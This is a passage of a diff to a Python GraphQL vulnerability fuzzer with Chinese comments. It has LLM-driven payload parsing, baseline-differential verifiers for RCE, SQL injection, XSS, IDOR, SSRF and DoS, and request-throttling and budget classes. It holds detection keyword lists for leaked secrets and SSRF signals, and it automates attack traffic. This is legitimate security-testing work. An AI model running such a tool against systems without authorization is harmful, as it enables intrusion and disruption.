+    每 batch_size 个结果组成一个提示词，各批次通过 llm_client 并发发送，
+    模型按 [#编号] 返回逐条结论。缺失或无法解析的条目回退到基础分析。
 
     Returns:
-        dict: {
-            'vulnerable': bool,
-            'method': str,  # 检测方法: time_based, echo_based, output_based
-            'details': str  # 详细信息
-        }
+        list: 与 results 一一对应的 {'analysis': str, 'vulnerable': Optional[bool], 'source': 'llm' | 'basic'}
     """
-    result = {'vulnerable': False, 'method': None, 'details': ''}
+    if not results:
+        return []
+
+    batches = [list(enumerate(results[i:i + batch_size], i + 1)) for i in range(0, len(results), batch_size)]
+    prompts = [build_batch_analysis_prompt(batch) for batch in batches]
+    responses = llm_client.complete_many(prompts, model, api_key, call_site='analyze')
+
+    verdicts = {}
+    for llm_response in responses:
+        verdicts.update(parse_batch_verdicts(llm_response))
+
+    analyses = []
+    for item_id, result in enumerate(results, 1):
+        verdict = verdicts.get(item_id)
+        if verdict and str(verdict.get('analysis') or '').strip():
+            vulnerable = verdict.get('vulnerable')
+            analyses.append({
+                'analysis': str(verdict['analysis']).strip(),
+                'vulnerable': vulnerable if isinstance(vulnerable, bool) else None,
+                'source': 'llm'
+            })
+        else:
+            analyses.append({
+                'analysis': basic_response_analysis(result.get('status_code') or 0,
+                                                    result.get('response_text') or '',
+                                                    result.get('response_time', 0)),
+                'vulnerable': None,
+                'source': 'basic'
+            })
+    return analyses
 
-    # 1. 时间盲注检测（sleep 命令）
-    if response_time > 4.0:
-        result['vulnerable'] = True
-        result['method'] = 'time_based'
-        result['details'] = f'响应时间 {response_time:.2f}s，可能存在时间盲注型 RCE'
-        return result
 
-    # 2. 回显型 RCE 检测（检查响应中是否包含命令执行结果）
-    if response_text:
-        response_lower = response_text.lower()
+def analyze_response_with_llm(payload: str, status_code: int, response_text: str, response_time: float, model: str, api_key: str = None) -> str:
+    """让 LLM 分析单个响应，判断是否存在漏洞特征"""
+    result = {'type': 'UNKNOWN', 'payload': payload, 'status_code': status_code,
+              'response_text': response_text, 'response_time': response_time}
+    return analyze_responses_batch([result], model, api_key)[0]['analysis']
+
+
+# =============================================================================
+# 漏洞验证
+# =============================================================================
+
+class IncrementalPayloadParser:
+    """
+    增量解析 LLM 输出的 Payload
+
+    按行处理输入片段，遇到空行或新的 [TYPE] 标记时当前 Payload 块结束并立即返回，
+    适用于流式输出；不完整的行缓存到下一个片段到达。
+    """
+
+    def __init__(self):
+        self._buffer = ''
+        self._current_type = None
+        self._current_payload = []
+
+    def _flush(self) -> list:
+        if not self._current_payload:
+            return []
+        payload_info = {
+            'type': self._current_type or 'UNKNOWN',
+            'payload': '\n'.join(self._current_payload)
+        }
+        self._current_payload = []
+        return [payload_info]
+
+    def _parse_line(self, line: str) -> list:
+        line = line.strip()
+        if not line:
+            return self._flush()
+
+        # 检测漏洞类型标记
+        if line.startswith('[') and ']' in line:
+            completed = self._flush()
+            self._current_type = line.split(']')[0].strip('[')
+            return completed
+        if line.startswith('mutation') or line.startswith('query') or line.startswith('{'):
+            self._current_payload.append(line)
+        elif self._current_payload:
+            self._current_payload.append(line)
+        return []
+
+    def feed(self, chunk: str) -> list:
+        """输入一段文本，返回其中已完整结束的 Payload"""
+        self._buffer += chunk
+        *lines, self._buffer = self._buffer.split('\n')
+        completed = []
+        for line in lines:
+            completed.extend(self._parse_line(line))
+        return completed
+
+    def close(self) -> list:
+        """输入结束，返回剩余的 Payload"""
+        completed = self._parse_line(self._buffer) if self._buffer else []
+        self._buffer = ''
+        return completed + self._flush()
+
+
+def parse_payloads(llm_response: str) -> list:
+    """解析 LLM 返回的 Payload"""
+    parser = IncrementalPayloadParser()
+    return parser.feed(llm_response) + parser.close()
+
+
+def validate_structured_payload(entry) -> Optional[dict]:
+    """
+    校验结构化输出中的单个 Payload 对象
+
+    必须有以 query / mutation / subscription / { 开头且括号配对的 payload 字符串；
+    variables 必须是对象，operation / expected_signal 为可选字符串。
+
+    Returns:
+        dict: 规范化后的 Payload（格式与 parse_payloads 一致，附带可选字段）；不合法时返回 None
+    """
+    if not isinstance(entry, dict):
+        return None
+
+    payload = entry.get('payload')
+    if not isinstance(payload, str) or not re.match(r'\s*(query|mutation|subscription)\b|\s*\{', payload):
+        return None
+    tokens = tokenize_graphql(payload)
+    if tokens.count('{') != tokens.count('}') or tokens.count('(') != tokens.count(')'):
+        return None
+
+    vuln_type = entry.get('type')
+    payload_info = {
+        'type': vuln_type.strip().strip('[]') if isinstance(vuln_type, str) and vuln_type.strip() else 'UNKNOWN',
+        'payload': payload.strip()
+    }
+    variables = entry.get('variables')
+    if isinstance(variables, dict) and variables:
+        payload_info['variables'] = variables
+    for key in ('operation', 'expected_signal'):
+        value = entry.get(key)
+        if isinstance(value, str) and value.strip():
+            payload_info[key] = value.strip()
+    return payload_info
+
+
+def parse_structured_payloads(llm_response: str) -> Optional[list]:
+    """
+    解析结构化 JSON 输出（{"payloads": [...]} 或顶层数组，允许包在 Markdown 代码块中）
+
+    Returns:
+        list: 通过校验的 Payload；输出不是合法 JSON 时返回 None
+    """
+    starts = [i for i in (llm_response.find('{'), llm_response.find('[')) if i != -1]
+    end = max(llm_response.rfind('}'), llm_response.rfind(']'))
+    if not starts or end <= min(starts):
+        return None
+    try:
+        data = json.loads(llm_response[min(starts):end + 1])
+    except ValueError:
+        return None
+
+    items = data.get('payloads') if isinstance(data, dict) else data
+    if not isinstance(items, list):
+        return None
+    return [p for p in (validate_structured_payload(item) for item in items) if p]
+
+
+def parse_llm_payloads(llm_response: str, output_mode: str = 'text') -> list:
+    """按输出模式解析 LLM 输出；json 模式解析不出 Payload 时回退到文本解析器"""
+    if output_mode == 'json':
+        payloads = parse_structured_payloads(llm_response)
+        if payloads:
+            return payloads
+    return parse_payloads(llm_response)
+
+
+class IncrementalJSONPayloadParser:
+    """
+    增量提取结构化 JSON 输出中的 Payload 对象
+
+    逐字符跟踪字符串和括号嵌套，数组中的对象一闭合就解析、校验并返回，
+    不必等完整 JSON 输出结束。整个输出中没有提取到任何对象时（模型没有按 JSON 输出），
+    close() 回退到 parse_llm_payloads。
+    """
+
+    def __init__(self):
+        self._text = ''
+        self._pos = 0
+        self._stack = []
+        self._in_string = False
+        self._escape = False
+        self._item_start = None
+        self._item_depth = 0
+        self.emitted = 0
+
+    def feed(self, chunk: str) -> list:
+        """输入一段文本，返回其中已闭合的合法 Payload 对象"""
+        self._text += chunk
+        completed = []
+        while self._pos < len(self._text):
+            ch = self._text[self._pos]
+            if self._in_string:
+                if self._escape:
+                    self._escape = False
+                elif ch == '\\':
+                    self._escape = True
+                elif ch == '"':
+                    self._in_string = False
+            elif ch == '"':
+                self._in_string = True
+            elif ch in '{[':
+                if ch == '{' and self._item_start is None and self._stack and self._stack[-1] == '[':
+                    self._item_start = self._pos
+                    self._item_depth = len(self._stack)
+                self._stack.append(ch)
+            elif ch in '}]':
+                if self._stack:
+                    self._stack.pop()
+                if ch == '}' and self._item_start is not None and len(self._stack) == self._item_depth:
+                    try:
+                        payload_info = validate_structured_payload(json.loads(self._text[self._item_start:self._pos + 1]))
+                    except ValueError:
+                        payload_info = None
+                    self._item_start = None
+                    if payload_info:
+                        completed.append(payload_info)
+            self._pos += 1
+        self.emitted += len(completed)
+        return completed
+
+    def close(self) -> list:
+        """输入结束；没有提取到任何对象时整体回退解析"""
+        if self.emitted:
+            return []
+        return parse_llm_payloads(self._text, 'json')
+
+
+# 服务端尝试外连时常见的错误信息
+SSRF_INDICATORS = ['connection refused', 'econnrefused', 'could not resolve host', 'name or service not known',
+                   'getaddrinfo', 'failed to connect', 'connect timeout', 'no route to host']
+
+
+def verify_ssrf(response_text: str, oast_domain: str) -> bool:
+    """
+    SSRF 内容信号：响应中出现 OAST 域名或服务端外连的错误信息
+
+    GraphQL 校验错误会原样回显参数值，不计为信号。是否真正回连仍需在 OAST 平台确认。
+    """
+    if not response_text:
+        return False
+    if analyze_graphql_error(response_text)['error_type'] in TriageGate.VALIDATION_ERRORS:
+        return False
+    text = response_text.lower()
+    if oast_domain and oast_domain.lower() in text:
+        return True
+    return any(ind in text for ind in SSRF_INDICATORS)
+
+
+def verify_rce(response_time: float, response_text: str = None, baseline: dict = None,
+               time_threshold: float = 4.0) -> dict:
+    """
+    多维度验证 RCE 漏洞
+
+    baseline 为该操作的基线时：延迟按超出正常请求中位数的部分判断，
+    正常响应中本来就有的回显特征不再计入。
+    time_threshold 为时间盲注阈值（秒），可由配置文件 rce_time_threshold 指定。
+
+    Returns:
+        dict: {
+            'vulnerable': bool,
+            'method': str,  # 检测方法: time_based, echo_based, output_based
+            'details': str  # 详细信息
+        }
+    """
+    result = {'vulnerable': False, 'method': None, 'details': ''}
+
+    baseline_text = baseline['text'] if baseline else ''
+
+    # 1. 时间盲注检测（sleep 命令）
+    if response_time - BaselineEngine.median_latency(baseline) > time_threshold:
+        result['vulnerable'] = True
+        result['method'] = 'time_based'
+        result['details'] = f'响应时间 {response_time:.2f}s，可能存在时间盲注型 RCE'
+        return result
+
+    # 2. 回显型 RCE 检测（检查响应中是否包含命令执行结果）
+    if response_text:
+        response_lower = response_text.lower()
 
         # 定义回显检测规则：(特征, 描述)
         echo_patterns = [
@@ -1405,7 +2806,7 @@ def verify_rce(response_time: float, response_text: str = None) -> dict:
         ]
 
         for pattern, description in echo_patterns:
-            if pattern in response_lower:
+            if pattern in response_lower and pattern not in baseline_text:
                 result['vulnerable'] = True
                 result['method'] = 'echo_based'
                 result['details'] = description
@@ -1418,7 +2819,7 @@ def verify_rce(response_time: float, response_text: str = None) -> dict:
         for user in common_users:
             # 检查是否作为独立单词出现（避免误报）
             import re
-            if re.search(rf'\b{re.escape(user)}\b', response_lower):
+            if re.search(rf'\b{re.escape(user)}\b', response_lower) and not re.search(rf'\b{re.escape(user)}\b', baseline_text):
                 # 需要额外验证（避免误报普通文本）
                 # 如果响应很短且包含用户名，更可能是命令输出
                 if len(response_text) < 500:
@@ -1466,14 +2867,15 @@ RCE_PAYLOAD_TEMPLATES = {
 }
 
 
-def verify_info_leak(response_text: str) -> list:
-    """检测信息泄露"""
+def verify_info_leak(response_text: str, baseline: dict = None) -> list:
+    """检测信息泄露（有基线时只报告正常响应中没有的关键词）"""
     keywords = ['password', 'token', 'secret', 'admin', 'private', 'credential', 'key', 'auth', 'session', 'apikey', 'api_key']
     found = []
     response_lower = response_text.lower()
+    baseline_text = baseline['text'] if baseline else ''
 
     for keyword in keywords:
-        if keyword in response_lower:
+        if keyword in response_lower and keyword not in baseline_text:
             found.append(keyword)
 
     return found
@@ -1494,49 +2896,778 @@ def verify_xss(response_text: str, payload: str) -> bool:
     return False
 
 
-def verify_authz_bypass(response_text: str, status_code: int) -> bool:
-    """验证未授权访问/权限绕过"""
+def verify_authz_bypass(response_text: str, status_code: int, baseline: dict = None) -> bool:
+    """验证未授权访问/权限绕过（有基线时忽略正常响应中本来就有的字段）"""
     # 成功响应且包含敏感数据
     if status_code == 200:
         authz_indicators = ['admin', 'role', 'permission', 'privilege', 'isAdmin', 'superuser']
+        baseline_text = baseline['text'] if baseline else ''
         for indicator in authz_indicators:
-            if indicator in response_text:
+            if indicator in response_text and indicator.lower() not in baseline_text:
                 return True
 
     return False
 
 
-def verify_idor(response_text: str, status_code: int) -> bool:
-    """验证 IDOR（不安全的直接对象引用）"""
+def verify_idor(response_text: str, status_code: int, baseline: dict = None) -> bool:
+    """
+    验证 IDOR（不安全的直接对象引用）
+
+    有基线时：响应必须没有 GraphQL 错误，并且正常请求被拒绝、
+    或响应结构 / 大小与正常请求明显不同；正常请求本来就返回同类数据时交给 LLM 判断。
+    """
     # 如果修改 ID 后仍能访问，可能存在 IDOR
     if status_code == 200 and len(response_text) > 100:
+        if baseline:
+            if analyze_graphql_error(response_text)['has_error']:
+                return False
+            if not baseline['has_data']:
+                return True  # 正常请求被拒绝，而测试请求拿到了数据
+            return (response_shape(response_text) not in baseline['shapes']
+                    or len(response_text) > max(baseline['sizes']) * 1.5)
         # 响应包含数据，说明可能访问到了不属于自己的资源
         return True
     return False
 
 
-def verify_dos(response_time: float) -> bool:
+def verify_dos(response_time: float, baseline: dict = None) -> bool:
     """验证 DoS（拒绝服务）"""
-    # 如果响应时间过长，可能存在资源耗尽攻击
-    if response_time > 10:
+    # 如果响应时间比正常请求（无基线时按 0 计）长出很多，可能存在资源耗尽攻击
+    if response_time - BaselineEngine.median_latency(baseline) > 10:
         return True
     return False
 
 
-def execute_payload(endpoint: str, payload: str, timeout: int = 10) -> tuple:
-    """执行 GraphQL Payload（使用全局会话配置）"""
+def verify_result(result: dict, response_text: str, oast_domain: str, baseline: 'BaselineEngine' = None,
+                  timing: 'TimingVerifier' = None) -> bool:
+    """
+    对单个测试结果运行多维度规则验证，命中时更新 result 的 vulnerable / details
+
+    baseline 不为 None 时与该操作的基线做差分：响应与某次正常请求相同时
+    只做延迟类检查，其余验证器也只看正常响应中没有的特征。
+    timing 不为 None 时，时间盲注 RCE 和 DoS 要经过重发计时确认，阈值取 timing.threshold。
+
+    Returns:
+        bool: 是否确认存在漏洞
+    """
+    vuln_type = result['type']
+    payload = result.get('original_payload', result['payload'])
+    elapsed_time = result['response_time']
+    status_code = result['status_code']
+    vuln_detected = False
+
+    profile = baseline.profile_for(result['payload']) if baseline else None
+    if profile and response_text and normalized_response_digest(response_text) in profile['digests']:
+        # 与正常请求的响应相同，内容类验证器不可能有新发现
+        result['baseline_match'] = True
+        response_text = ''
+
+    # RCE 验证（支持时间盲注和回显检测）
+    if 'RCE' in vuln_type.upper() or 'CMD' in vuln_type.upper():
+        rce_result = verify_rce(elapsed_time, response_text, profile, timing.threshold if timing else 4.0)
+        if rce_result['method'] == 'time_based' and timing:
+            check = timing.confirm(result, profile)
+            result['timing_check'] = check['details']
+            if check['confirmed']:
+                rce_result['details'] += f"；{check['details']}"
+            else:
+                log_info(f"  计时复测未确认时间盲注: {check['details']}")
+                rce_result = verify_rce(0.0, response_text, profile)
+        if rce_result['vulnerable']:
+            result['vulnerable'] = True
+            result['details'] = rce_result['details']
+            log_vuln("RCE", f"[{rce_result['method']}] {rce_result['details']}")
+            vuln_detected = True
+
+    # SQL 注入验证
+    if 'SQL' in vuln_type.upper() and response_text:
+        sql_indicators = ['sql', 'syntax', 'mysql', 'postgresql', 'sqlite', 'query', 'database']
+        baseline_text = profile['text'] if profile else ''
+        if any(ind in response_text.lower() and ind not in baseline_text for ind in sql_indicators):
+            result['vulnerable'] = True
+            result['details'] = "响应包含 SQL 错误信息"
+            log_vuln("SQLi", "检测到 SQL 错误信息！")
+            vuln_detected = True
+
+    # XSS 验证
+    if 'XSS' in vuln_type.upper() and response_text:
+        if verify_xss(response_text, payload):
+            result['vulnerable'] = True
+            result['details'] = "响应中反射了 XSS Payload"
+            log_vuln("XSS", "检测到 XSS 漏洞！")
+            vuln_detected = True
+
+    # 未授权访问验证
+    if 'AUTHZ' in vuln_type.upper() and response_text:
+        if verify_authz_bypass(response_text, status_code or 0, profile):
+            result['vulnerable'] = True
+            result['details'] = "可能存在权限绕过"
+            log_vuln("AUTHZ", "检测到未授权访问！")
+            vuln_detected = True
+
+    # IDOR 验证
+    if 'IDOR' in vuln_type.upper() and response_text:
+        if verify_idor(response_text, status_code or 0, profile):
+            result['vulnerable'] = True
+            result['details'] = "可能存在 IDOR"
+            log_vuln("IDOR", "检测到不安全的直接对象引用！")
+            vuln_detected = True
+
+    # 信息泄露验证
+    if response_text:
+        leaked_info = verify_info_leak(response_text, profile)
+        if leaked_info:
+            result['vulnerable'] = True
+            result['details'] = f"发现敏感关键词: {', '.join(leaked_info)}"
+            log_vuln("INFO_LEAK", f"发现敏感信息泄露: {', '.join(leaked_info)}")
+            vuln_detected = True
+
+    # DoS 验证
+    if 'DOS' in vuln_type.upper() and verify_dos(elapsed_time, profile):
+        check = timing.confirm(result, profile, threshold=10) if timing else None
+        if check:
+            result['timing_check'] = check['details']
+        if check and not check['confirmed']:
+            log_info(f"  计时复测未确认 DoS: {check['details']}")
+        else:
+            result['vulnerable'] = True
+            result['details'] = f"响应时间 {elapsed_time:.2f}s，可能存在资源耗尽"
+            log_vuln("DOS", "检测到拒绝服务漏洞！")
+            vuln_detected = True
+
+    # SSRF 提示（只有响应中出现外连迹象时才提示，避免每个 URL 变异体都刷屏）
+    if 'SSRF' in vuln_type.upper() and verify_ssrf(response_text, oast_domain):
+        result['details'] = f"响应中出现外连迹象，请检查 OAST 平台 ({oast_domain}) 是否有回连"
+        log_warning(f"  ⚠️  SSRF Payload 触发了外连迹象，请检查 OAST 平台")
+
+    return vuln_detected
+
+
+# =============================================================================
+# Automatic Persisted Queries (APQ) 传输
+# =============================================================================
+
+class APQTransport:
+    """
+    APQ 传输：先只发送文档的 sha256 哈希，服务端返回 PersistedQueryNotFound
+    时再携带完整文档注册。已注册的哈希按端点缓存：尚未注册的文档直接携带
+    完整文档发送（一次请求完成注册和执行），不再先发一次必然未命中的哈希探测。
+    """
+
+    NOT_FOUND_MARKERS = ('persistedquerynotfound', 'persisted_query_not_found')
+    NOT_SUPPORTED_MARKERS = ('persistedquerynotsupported', 'persisted_query_not_supported')
+    HASH_MEMO_SIZE = 4096  # 文档哈希缓存上限
+
+    def __init__(self):
+        self.enabled: bool = False
+        self.use_get: bool = False
+        self.registered: Dict[str, set] = {}  # 端点 -> 已注册的哈希
+        self.unsupported: set = set()  # 不支持 APQ 的端点
+        self._hit_endpoints: set = set()  # 出现过哈希命中的端点
+        self._hash_memo: OrderedDict = OrderedDict()
+        self._lock = threading.Lock()
+        self.stats = {'hash_hits': 0, 'registrations': 0, 'fallbacks': 0, 'unsupported': 0}
+
+    def configure(self, enabled: bool, use_get: bool = False):
+        """启用 APQ，use_get 表示查询通过 GET 发送（便于 CDN 缓存）"""
+        self.enabled = enabled or use_get
+        self.use_get = use_get
+
+    def document_hash(self, document: str) -> str:
+        """计算文档 sha256（LRU 缓存最近的文档）"""
+        with self._lock:
+            digest = self._hash_memo.get(document)
+            if digest is not None:
+                self._hash_memo.move_to_end(document)
+                return digest
+        digest = hashlib.sha256(document.encode('utf-8')).hexdigest()
+        with self._lock:
+            self._hash_memo[document] = digest
+            while len(self._hash_memo) > self.HASH_MEMO_SIZE:
+                self._hash_memo.popitem(last=False)
+        return digest
+
+    @staticmethod
+    def _json(response) -> Optional[dict]:
+        try:
+            data = response.json()
+        except ValueError:
+            return None
+        return data if isinstance(data, dict) else None
+
+    @classmethod
+    def _match_error(cls, response, markers: tuple) -> bool:
+        """检查响应 errors 中的 message / extensions.code 是否命中指定标记"""
+        data = cls._json(response)
+        if data is None:
+            return False
+
+        for error in data.get('errors') or []:
+            if not isinstance(error, dict):
+                continue
+            code = str((error.get('extensions') or {}).get('code', '')).lower()
+            message = str(error.get('message', '')).lower()
+            if code in markers or any(m in message for m in markers):
+                return True
+        return False
+
+    @classmethod
+    def _executed(cls, response) -> bool:
+        """服务端是否真正执行了文档（2xx 且响应包含 data 字段）"""
+        if not 200 <= response.status_code < 300:
+            return False
+        data = cls._json(response)
+        return data is not None and 'data' in data
+
+    def _is_registered(self, endpoint: str, digest: str) -> bool:
+        with self._lock:
+            return digest in self.registered.get(endpoint, ())
+
+    def _count(self, key: str):
+        with self._lock:
+            self.stats[key] += 1
+
+    def _send_once(self, endpoint: str, body: dict, use_get: bool, request_kwargs: dict) -> tuple:
+        """发送单个请求，返回 (response, 耗时)"""
+        start_time = time.time()
+        if use_get:
+            params = {k: (v if isinstance(v, str) else json.dumps(v, separators=(',', ':')))
+                      for k, v in body.items()}
+            response = requests.get(endpoint, params=params, **request_kwargs)
+        else:
+            response = requests.post(endpoint, json=body, **request_kwargs)
+        return response, time.time() - start_time
+
+    def _register(self, endpoint: str, payload: str, digest: str, hash_body: dict, use_get: bool,
+                  request_kwargs: dict) -> tuple:
+        """携带完整文档发送；文档被成功执行时记录为已注册"""
+        response, elapsed_time = self._send_once(endpoint, dict(hash_body, query=payload), use_get,
+                                                 request_kwargs)
+        if self._match_error(response, self.NOT_SUPPORTED_MARKERS):
+            return self._mark_unsupported(endpoint, payload, hash_body, request_kwargs)
+        if self._executed(response):
+            with self._lock:
+                self.registered.setdefault(endpoint, set()).add(digest)
+                self.stats['registrations'] += 1
+        return response, elapsed_time
+
+    def _mark_unsupported(self, endpoint: str, payload: str, hash_body: dict, request_kwargs: dict) -> tuple:
+        """端点不支持 APQ：记录后改用普通请求重发"""
+        with self._lock:
+            self.unsupported.add(endpoint)
+            self.stats['unsupported'] += 1
+        return self._send_plain(endpoint, payload, hash_body.get('variables'), request_kwargs)
+
+    def _send_plain(self, endpoint: str, payload: str, variables: dict, request_kwargs: dict) -> tuple:
+        plain_body = {"query": payload}
+        if variables:
+            plain_body['variables'] = variables
+        return self._send_once(endpoint, plain_body, False, request_kwargs)
+
+    def send(self, endpoint: str, payload: str, variables: dict, request_kwargs: dict) -> tuple:
+        """
+        以 APQ 方式发送 Payload
+
+        只有已注册的文档才先发送哈希；哈希请求只有被服务端成功执行才算命中，
+        PersistedQueryNotFound 时重新注册，其他错误（如服务端不识别 APQ、4xx/5xx）
+        时改发普通请求，保证文档一定送达。
+
+        Returns:
+            tuple: (response, elapsed_time)，elapsed_time 只统计最终那次请求
+        """
+        if endpoint in self.unsupported:
+            return self._send_plain(endpoint, payload, variables, request_kwargs)
+
+        digest = self.document_hash(payload)
+        extensions = {"persistedQuery": {"version": 1, "sha256Hash": digest}}
+        # Mutation 通过 GET 发送会被大多数服务端拒绝，始终走 POST
+        use_get = self.use_get and get_operation_type(payload) != 'mutation'
+
+        hash_body = {"extensions": extensions}
+        if variables:
+            hash_body['variables'] = variables
+
+        if not self._is_registered(endpoint, digest):
+            return self._register(endpoint, payload, digest, hash_body, use_get, request_kwargs)
+
+        response, elapsed_time = self._send_once(endpoint, hash_body, use_get, request_kwargs)
+        if self._executed(response):
+            with self._lock:
+                self.stats['hash_hits'] += 1
+                self._hit_endpoints.add(endpoint)
+            return response, elapsed_time
+
+        if self._match_error(response, self.NOT_SUPPORTED_MARKERS):
+            return self._mark_unsupported(endpoint, payload, hash_body, request_kwargs)
+
+        if self._match_error(response, self.NOT_FOUND_MARKERS):
+            # 服务端缓存已淘汰该哈希：重新注册
+            with self._lock:
+                self.registered.get(endpoint, set()).discard(digest)
+            return self._register(endpoint, payload, digest, hash_body, use_get, request_kwargs)
+
+        # 哈希请求未被执行（服务端忽略 APQ 扩展、网关错误等）：改发普通请求；
+        # 该端点从未命中过哈希而普通请求正常执行时，视为不支持 APQ
+        self._count('fallbacks')
+        response, elapsed_time = self._send_plain(endpoint, payload, variables, request_kwargs)
+        if self._executed(response) and endpoint not in self._hit_endpoints:
+            with self._lock:
+                self.unsupported.add(endpoint)
+                self.stats['unsupported'] += 1
+        return response, elapsed_time
+
+    def display_stats(self):
+        """显示 APQ 统计"""
+        if not self.enabled:
+            return
+        log_info(f"APQ: 哈希命中 {self.stats['hash_hits']} 次, 注册 {self.stats['registrations']} 次"
+                 + (f", 回退普通请求 {self.stats['fallbacks']} 次" if self.stats['fallbacks'] else "")
+                 + (f", {len(self.unsupported)} 个端点不支持 APQ" if self.unsupported else ""))
+
+
+# 全局 APQ 传输实例
+apq_transport = APQTransport()
+
+
+# =============================================================================
+# 目标请求闸门
+# =============================================================================
+
+class RequestGate:
+    """
+    目标请求闸门
+
+    所有发往目标的请求（各 Fuzzing 会话、修复重试、验证）都经过这里，
+    共享同一个并发上限，并发会话再多也不会放大对目标的压力。
+
+    计时敏感的请求（sleep 类 RCE、DoS、计时复测）走单独的串行通道：同一主机同一时间
+    只发一个计时请求；计时请求排队期间该主机不再放行新的普通请求，等进行中的普通请求
+    全部结束后再单独发送，测得的耗时不受本工具自身并发压力的干扰。其他主机不受影响。
+    """
+
+    def __init__(self, max_concurrency: int = 4):
+        self._cond = threading.Condition()
+        self.configure(max_concurrency)
+
+    def configure(self, max_concurrency: int):
+        with self._cond:
+            self.max_concurrency = max(1, max_concurrency)
+            self._active = 0
+            self._host_active: Dict[str, int] = {}  # 主机 -> 进行中的普通请求数
+            self._draining: Dict[str, int] = {}  # 主机 -> 排队中的计时请求数
+            self._timing_hosts: set = set()  # 正在发送计时请求的主机
+            self.stats = {'requests': 0, 'queued': 0, 'peak': 0, 'timing': 0, 'drain_wait': 0.0}
+
+    def _normal_ready(self, host: str) -> bool:
+        return (self._active < self.max_concurrency and not self._draining.get(host)
+                and host not in self._timing_hosts)
+
+    def acquire(self, host: str = '', timing_sensitive: bool = False):
+        """
+        占用一个请求名额，名额用完时阻塞等待
+
+        timing_sensitive 为 True 时走计时通道：等该主机的普通请求和其他计时请求都结束后
+        独占该主机（不占普通并发名额）。
+        """
+        with self._cond:
+            if timing_sensitive:
+                start_time = time.time()
+                self._draining[host] = self._draining.get(host, 0) + 1
+                self._cond.wait_for(lambda: not self._host_active.get(host) and host not in self._timing_hosts)
+                self._draining[host] -= 1
+                self._timing_hosts.add(host)
+                self.stats['timing'] += 1
+                self.stats['drain_wait'] += time.time() - start_time
+            else:
+                if not self._normal_ready(host):
+                    self.stats['queued'] += 1
+                    self._cond.wait_for(lambda: self._normal_ready(host))
+                self._host_active[host] = self._host_active.get(host, 0) + 1
+            self._active += 1
+            self.stats['requests'] += 1
+            self.stats['peak'] = max(self.stats['peak'], self._active)
+
+    def release(self, host: str = '', timing_sensitive: bool = False):
+        with self._cond:
+            self._active -= 1
+            if timing_sensitive:
+                self._timing_hosts.discard(host)
+            else:
+                self._host_active[host] -= 1
+            self._cond.notify_all()
+
+    def summary(self) -> dict:
+        summary = {'max_concurrency': self.max_concurrency}
+        summary.update(self.stats)
+        summary['drain_wait'] = round(summary['drain_wait'], 2)
+        return summary
+
+
+request_gate = RequestGate()
+
+
+# =============================================================================
+# 扫描预算
+# =============================================================================
+
+class BudgetExhausted(Exception):
+    """请求预算已用尽，请求未发送（区别于网络失败）"""
+
+
+def parse_duration(spec: str) -> float:
+    """解析时长，如 "1200"、"90s"、"20m"、"1.5h"，返回秒数
+
+    Raises:
+        ValueError: 格式错误
+    """
+    match = re.fullmatch(r'\s*(\d+(?:\.\d+)?)\s*([smhSMH]?)\s*', spec or '')
+    if not match:
+        raise ValueError(f"无效的时长: {spec}（示例: 1200、90s、20m、1.5h）")
+    return float(match.group(1)) * {'': 1, 's': 1, 'm': 60, 'h': 3600}[match.group(2).lower()]
+
+
+class ScanBudget:
+    """
+    全局扫描预算（--time-budget / --request-budget）
+
+    按阶段分配时间和请求数：discovery（端点探测）、introspection（内省）、baseline（基线采集）、
+    llm_rounds（LLM 生成的 Fuzzing 轮次）、deterministic（本地变异等确定性生成）、verification（计时复测等验证）。
+    阶段可用的份额 = 剩余预算 × 该阶段权重 / 尚未结束的阶段权重之和，前面阶段省下的预算自动流向后面的阶段；
+    llm_rounds 和 deterministic 两个阶段的权重按观测到的产出（每个请求带来的新行为）动态调整；
+    verification 与它们并行、到 Fuzzing 结束才结束，其份额中未使用的部分（保留 VERIFICATION_RESERVE）
+    借给这两个阶段。
+    后三个阶段并行，共用 Fuzzing 截止时间（总时限减去报告预留）之前的时间；新一轮是否开始按已完成轮次的
+    平均耗时和请求数判断。到达截止时间后停止派发，用已完成的结果生成报告；请求总数用尽后不再发送新请求。
+    请求按线程所属的阶段（phase）计数。
+    """
+
+    PHASE_WEIGHTS = {'discovery': 0.05, 'introspection': 0.05, 'baseline': 0.1, 'llm_rounds': 0.5,
+                     'deterministic': 0.15, 'verification': 0.15}
+    FUZZ_PHASES = ('llm_rounds', 'deterministic', 'verification')
+    MIN_YIELD_SAMPLES = 20  # 两个阶段都至少发送这么多请求后才按产出调整权重
+    VERIFICATION_RESERVE = 0.25  # verification 份额中不外借的比例（留给后期的计时复测）
+
+    def __init__(self):
+        self._context = threading.local()
+        self._lock = threading.Lock()
+        self.configure()
+
+    def configure(self, time_budget: float = None, request_budget: int = None):
+        self.time_budget = time_budget
+        self.request_budget = request_budget
+        self.started = time.time()
+        self.ended: set = set()
+        self.requests: Dict[str, int] = {}
+        self.novel: Dict[str, int] = {}
+        self.phase_started: Dict[str, float] = {}
+        self.phase_seconds: Dict[str, float] = {}
+        self.rounds = {'count': 0, 'seconds': 0.0, 'requests': 0}
+        self.stopped: Optional[str] = None
+
+    @property
+    def enabled(self) -> bool:
+        return bool(self.time_budget or self.request_budget)
+
+    @property
+    def phase(self) -> str:
+        """当前线程的请求计入的阶段"""
+        return getattr(self._context, 'phase', 'other')
+
+    @phase.setter
+    def phase(self, value: str):
+        self._context.phase = value
+
+    @property
+    def report_reserve(self) -> float:
+        """为报告生成预留的秒数"""
+        return max(5.0, self.time_budget * 0.05) if self.time_budget else 0.0
+
+    def time_left(self) -> float:
+        """距 Fuzzing 截止时间的秒数；未设置时间预算时为 inf"""
+        if not self.time_budget:
+            return float('inf')
+        return self.started + self.time_budget - self.report_reserve - time.time()
+
+    def deadline_reached(self) -> bool:
+        return self.time_left() <= 0 or self.stopped is not None
+
+    def begin(self, phase: str):
+        """开始一个阶段，当前线程的请求计入该阶段"""
+        self.phase = phase
+        with self._lock:
+            self.phase_started.setdefault(phase, time.time())
+
+    def end(self, phase: str):
+        """结束一个阶段，未用完的份额流向后续阶段"""
+        with self._lock:
+            if phase in self.ended:
+                return
+            self.ended.add(phase)
+            self.phase_seconds[phase] = time.time() - self.phase_started.get(phase, time.time())
+
+    def _weights(self) -> dict:
+        weights = {p: w for p, w in self.PHASE_WEIGHTS.items() if p not in self.ended}
+        if 'llm_rounds' not in weights or 'deterministic' not in weights:
+            return weights
+        rates = {}
+        for p in ('llm_rounds', 'deterministic'):
+            sent = self.requests.get(p, 0)
+            if sent < self.MIN_YIELD_SAMPLES:
+                return weights
+            rates[p] = self.novel.get(p, 0) / sent
+        if sum(rates.values()):
